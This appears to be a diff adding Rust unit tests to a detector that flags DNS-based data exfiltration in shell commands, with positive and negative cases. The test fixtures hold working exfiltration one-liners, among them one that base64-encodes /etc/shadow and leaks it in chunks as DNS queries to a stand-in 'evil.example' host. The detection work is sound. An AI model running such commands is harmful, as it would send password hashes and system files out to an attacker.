@@ -62,6 +62,36 @@ mod tests {
     }
 
     #[test]
+    fn fires_for_every_dns_client() {
+        for client in DNS_CLIENTS {
+            let script = format!(
+                "for c in $(base64 -w0 /etc/shadow | fold -w60); do {client} ${{c}}.t.evil.example; done"
+            );
+            assert_eq!(
+                run(detect, &["sh", "-c", &script]),
+                ["dns_exfiltration"],
+                "{client}"
+            );
+        }
+    }
+
+    #[test]
+    fn fires_on_a_substitution_as_the_first_label() {
+        // The chunk is encoded in place, no loop variable in between.
+        assert_eq!(
+            run(
+                detect,
+                &[
+                    "sh",
+                    "-c",
+                    "dig $(xxd -p -l 30 /etc/hostname).x.evil.example"
+                ]
+            ),
+            ["dns_exfiltration"]
+        );
+    }
+
+    #[test]
     fn quiet_on_ordinary_lookups() {
         assert!(run(detect, &["dig", "+short", "example.com"]).is_empty());
         assert!(
@@ -76,5 +106,25 @@ mod tests {
             .is_empty(),
             "a fixed name"
         );
+    }
+
+    #[test]
+    fn quiet_on_service_names_built_from_variables() {
+        // The same `$x.domain` shape, but nothing on the line encodes data.
+        assert!(run(
+            detect,
+            &[
+                "sh",
+                "-c",
+                "for s in api db; do nslookup $s.default.svc.cluster.local; done"
+            ]
+        )
+        .is_empty());
+        // An encoder on the line, but the variable is the whole name (or the server): no label
+        // of data in front of a domain.
+        for q in ["dig +short $SERVER", "host $NODE.", "dig @$NS example.com"] {
+            let script = format!("base64 -d /run/secrets/ca.b64 > /etc/ssl/ca.pem; {q}");
+            assert!(run(detect, &["sh", "-c", &script]).is_empty(), "{q}");
+        }
     }
 }
